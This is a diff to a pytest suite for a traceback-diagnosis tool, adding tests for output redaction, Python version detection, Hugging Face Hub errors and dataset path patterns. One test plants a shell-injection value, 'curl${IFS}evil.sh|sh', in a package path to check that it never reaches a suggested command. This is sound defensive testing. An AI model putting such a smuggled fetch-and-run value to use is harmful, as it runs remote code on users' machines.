@@ -15,6 +15,7 @@ import pytest
 from xladoctor.explain.engine import explain_stream
 from xladoctor.explain.rules import load_rules
 from xladoctor.matrix.failures import code_named
+from xladoctor.redact import redact_text
 
 TB = 'Traceback (most recent call last):\n  File "/home/me/train.py", line 10, in <module>\n    main()\n'
 LIB = '  File "/opt/venv/lib/python3.11/site-packages/{pkg}/core.py", line 5, in run\n    x = y\n'
@@ -99,7 +100,7 @@ CASES: dict[str, tuple[str, str, str, str]] = {
     "user-code-error:forge_checkpoint_without_text_encoders": ("AssertionError: You do not have CLIP state dict!\n", "user-code-error", "not-environment", "VAE / Text Encoder"),
     "user-code-error:gguf_of_another_architecture": ("ValueError: Unexpected architecture type in GGUF file, expected one of flux, sd1, sdxl, t5encoder but got 'pig'\n", "user-code-error", "not-environment", "general.architecture"),
     "framework-internal-error:unsloth_compiler_failed": ("Unsloth: Failed to create dynamic compiled modules!\n", "framework-internal-error", "framework-bug", "unsloth_zoo"),
-    "user-code-error:tokenizer_without_pad_token": (tb("ValueError: Asking to pad but the tokenizer does not have a padding token. Please select a token to use as `pad_token` `(tokenizer.pad_token = tokenizer.eos_token e.g.)` or add a new pad token via `tokenizer.add_special_tokens({'pad_token': '[PAD]'})`.", "transformers"), "user-code-error", "not-environment", "tokenizer.pad_token = tokenizer.eos_token"),
+    "user-code-error:tokenizer_without_pad_token": (tb("ValueError: Asking to pad but the tokenizer does not have a padding token. Please select a token to use as `pad_token` `(tokenizer.pad_token = tokenizer.eos_token e.g.)` or add a new pad token via `tokenizer.add_special_tokens({'pad_token': '[PAD]'})`.", "transformers"), "user-code-error", "not-environment", "tokenizer.eos_token to tokenizer.pad_token"),
     "user-code-error:prompt_fills_max_length": (tb("ValueError: Input length of input_ids is 1024, but `max_length` is set to 1024. This can lead to unexpected behavior. You should consider increasing `max_length` or, better yet, setting `max_new_tokens`.", "transformers"), "user-code-error", "not-environment", "max_new_tokens"),
     "user-code-error:configuration_refused_by_its_schema": (tb("pydantic_core._pydantic_core.ValidationError: 51 validation errors for TrainConfig\nsrc_subword_model\n  Extra inputs are not permitted [type=extra_forbidden, input_value='bpe.model', input_type=str]", "pydantic"), "user-code-error", "not-environment", "src_subword_model"),
     "user-code-error:lightning_two_packages": (tb("TypeError: `model` must be a `LightningModule` or `torch._dynamo.OptimizedModule`, got `LightningModule`", "lightning/pytorch"), "user-code-error", "not-environment", "pytorch_lightning"),
@@ -385,6 +386,18 @@ CASES: dict[str, tuple[str, str, str, str]] = {
 
 def _diagnose(log: str):  # type: ignore[no-untyped-def]
     return explain_stream("run.log", io.BytesIO(log.encode()), None).diagnosis
+
+
+@pytest.mark.parametrize("rule_id", sorted(CASES))
+def test_a_rules_own_words_survive_the_redaction_of_every_output(rule_id: str) -> None:
+    # every output is redacted: advice shaped like `key = value` ("pad_token = ...", "account VALUE") printed as
+    # "<redacted>" (and a command with it pasted as a redirection); a log whose own words are redacted is exempt
+    log = CASES[rule_id][0]
+    if redact_text(log) != log:
+        return
+    diagnosis = _diagnose(log)
+    for said in (diagnosis.cause, *diagnosis.remediation, *diagnosis.next):
+        assert redact_text(said) == said, said
 
 
 def test_every_rule_has_a_case() -> None:
@@ -2361,6 +2374,11 @@ def test_a_triton_kernel_too_big_for_shared_memory_is_blamed_on_whoever_chose_it
     yours = _diagnose(launched + said.format(need=163842) + "\n")
     assert (yours.family, yours.verdict) == ("user-code-error", "not-environment"), yours.cause
     assert "/home/me/train.py:10" in yours.cause
+    # a grid given as a lambda that indexes its meta-parameters is still the user's launch
+    lam = TB.replace("    main()", "    matmul_kernel[lambda META: (triton.cdiv(M, META['BLOCK_M']),)](a, b, c)")
+    assert (
+        _diagnose(lam + LIB.format(pkg="triton/runtime") + said.format(need=163842) + "\n").family == "user-code-error"
+    )
     # a frame outside site-packages that only calls a function (a library run from its checkout) launched nothing
     called = _diagnose(TB + LIB.format(pkg="triton/runtime") + said.format(need=163842) + "\n")
     assert called.verdict == "framework-bug", called.cause
@@ -2399,6 +2417,23 @@ def test_a_package_written_for_another_python_is_read_only_where_the_syntax_or_t
         + "TypeError: unsupported operand type(s) for |: 'type' and 'NoneType'\n"
     )
     assert "Python 3.10 or newer" in _diagnose(union).cause
+
+    # a decimal or a date is no Python 2 octal; async as a name is a package older than Python 3.7
+    def syntax(code: str, folder: str = "mylib") -> str:
+        return f'Traceback (most recent call last):\n  File "/home/me/run.py", line 1, in <module>\n    import mylib\n  File "/usr/lib/python3.9/site-packages/{folder}/core.py", line 12\n    {code}\n    ^\nSyntaxError: invalid syntax\n'
+
+    assert "Python 2" not in _diagnose(syntax('case {"lr": 0.01, "day": "2024-01-05"}:')).cause
+    assert "Python 3.7 made keywords" in _diagnose(syntax("def expect(self, pattern, async=False):")).cause
+    # a package's name is a path's part: it reaches a command only when it is a plain name
+    hostile = _diagnose(syntax("match kind:", folder="x;curl${IFS}evil.sh|sh;"))
+    assert all("curl" not in step for step in hostile.next), hostile.next
+    # a line shown that is no type syntax decides, whatever the path says
+    shown = (
+        TB
+        + '  File "/usr/lib/python3.8/site-packages/lib/a.py", line 5, in get\n    return self.kind[key]\n'
+        + "TypeError: 'type' object is not subscriptable\n"
+    )
+    assert _diagnose(shown).decided_by != "version-mismatch:newer_python_type_syntax"
     # Python's own operand error is no op a backend lacks
     operand = _diagnose(
         TB
@@ -2415,7 +2450,7 @@ def test_the_hub_refusing_a_token_or_a_rate_is_told_apart_from_a_repository_not_
             "huggingface_hub/utils/_http",
         )
     )
-    assert token.family == "bad-configuration" and "rejected the token" in token.cause
+    assert token.family == "bad-configuration" and "refused this process's credentials" in token.cause
     limit = _diagnose(
         tb(
             "huggingface_hub.errors.HfHubHTTPError: 429 Client Error: Too Many Requests for url: https://huggingface.co/api/models/a/b",
@@ -2423,6 +2458,13 @@ def test_the_hub_refusing_a_token_or_a_rate_is_told_apart_from_a_repository_not_
         )
     )
     assert "too many requests" in limit.cause
+    xet = _diagnose(
+        tb(
+            "huggingface_hub.errors.HfHubHTTPError: 429 Client Error: Too Many Requests for url: https://cas-bridge.xethub.hf.co/xet-bridge-us/abc",
+            "huggingface_hub/utils/_http",
+        )
+    )
+    assert "too many requests" in xet.cause
     odd = _diagnose(
         tb(
             "huggingface_hub.errors.RepositoryNotFoundError: 401 Client Error.\nRepository Not Found for url: https://huggingface.co/--force/x/resolve/main/a.json.",
@@ -2430,6 +2472,20 @@ def test_the_hub_refusing_a_token_or_a_rate_is_told_apart_from_a_repository_not_
         )
     )
     assert "hf download OWNER/MODEL" in " ".join(odd.next)  # an id that could be an option never reaches a command
+    dataset = _diagnose(
+        tb(
+            "huggingface_hub.errors.RepositoryNotFoundError: 401 Client Error.\nRepository Not Found for url: https://huggingface.co/api/datasets/me/private-ds/revision/main.",
+            "huggingface_hub/utils/_http",
+        )
+    )
+    assert "hf download me/private-ds --repo-type dataset" in " ".join(dataset.next)
+    bare = _diagnose(
+        tb(
+            "huggingface_hub.errors.RepositoryNotFoundError: 401 Client Error.\nRepository Not Found for url: https://huggingface.co/bert-base-uncasedd/resolve/main/config.json.",
+            "huggingface_hub/utils/_http",
+        )
+    )
+    assert "bert-base-uncasedd is not found" in bare.cause or "bert-base-uncasedd" in " ".join(bare.next)
     tf = _diagnose(
         tb(
             "tensorflow.python.framework.errors_impl.InvalidArgumentError: Cannot assign a device for operation Adam: Could not satisfy explicit device specification '/device:GPU:0' because no supported kernel for GPU devices is available.",
@@ -2485,6 +2541,14 @@ def test_a_name_that_is_no_project_never_reaches_pip() -> None:
     assert lzma.family == "missing-library" and "liblzma-dev" in lzma.cause and not lzma.remediation
     odd = _diagnose(TB + "ModuleNotFoundError: No module named '_private_thing'\n")
     assert not any(" -" in step.split("install", 1)[-1][:3] for step in odd.remediation), odd.remediation
+
+
+def test_a_double_star_inside_a_name_is_the_users_pattern_not_datasets() -> None:
+    said = "ValueError: Invalid pattern: '**' can only be an entire path component\n"
+    mine = TB.replace("    main()", '    ds = load_dataset("parquet", data_files="data/**.parquet")')
+    assert _diagnose(mine + LIB.format(pkg="fsspec/utils") + said).family == "user-code-error"
+    whole = TB.replace("    main()", '    ds = load_dataset("parquet", data_files="data/**/*.parquet")')
+    assert _diagnose(whole + LIB.format(pkg="fsspec/utils") + said).family == "api-version-skew"
 
 
 def test_nccl_shm_growth_refused_without_its_path_is_still_dev_shm() -> None:
